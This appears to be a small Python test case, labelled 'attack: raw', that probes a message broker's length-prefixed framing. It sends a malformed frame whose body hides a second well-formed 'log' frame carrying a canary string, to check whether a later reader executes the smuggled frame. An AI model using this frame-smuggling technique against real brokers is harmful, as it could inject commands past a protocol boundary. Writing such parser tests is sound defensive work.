# attack: raw | hides a frame in the broken body of another, for whoever starts anew
import json, os, struct
def send(body, payload=b""):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    os.write(BROKER_FD, struct.pack("<II", len(body), len(payload)) + body + payload)
inner = json.dumps({"op": "log", "line": "PLUNDER-INNER"}).encode()
send(b"\x00" + struct.pack("<II", len(inner), 0) + inner)
send(inner)
